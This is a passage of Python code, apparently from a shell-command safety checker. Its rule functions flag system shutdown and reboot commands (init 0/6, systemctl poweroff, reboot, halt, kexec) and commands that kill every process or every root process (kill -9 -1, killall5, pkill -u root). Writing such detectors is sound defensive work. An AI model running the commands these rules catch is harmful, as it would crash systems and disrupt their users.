        return cmd.program
    if cmd.program in ("init", "telinit") and cmd.args[:1] in (("0",), ("6",)):
        return f"{cmd.program} {cmd.args[0]}"
    if cmd.program == "systemctl" and cmd.args[:1] and cmd.args[0] in ("poweroff", "reboot", "halt", "kexec"):
        return f"systemctl {cmd.args[0]}"
    return None


@check("kill_everything")
def kill_everything(hit: Hit) -> str | None:
    """``kill -9 -1`` (every process the user may signal), ``killall5``, or every process of root."""
    cmd = hit.cmd
    if cmd.program == "kill" and any(
        a in ("-1", "1") for a in hit.cmd.args if a not in ("-9", "-KILL", "-s")
    ):
        operands = [a for a in cmd.args if a not in ("-9", "-KILL", "-SIGKILL", "-15", "-TERM", "-s", "KILL")]
        return "kill -1" if "-1" in operands or operands == ["1"] else None
    if cmd.program == "killall5":
        return "killall5"
    if cmd.program in ("pkill", "killall", "slay"):
        users = option_value(cmd.args, ("-u", "-U", "--uid", "--euid", "--user"))
        if any(u in ("root", "0") for u in users) or any(o in (".", ".*", "^") for o in hit.operands):
            return f"{cmd.program} " + " ".join(cmd.args)
    return None
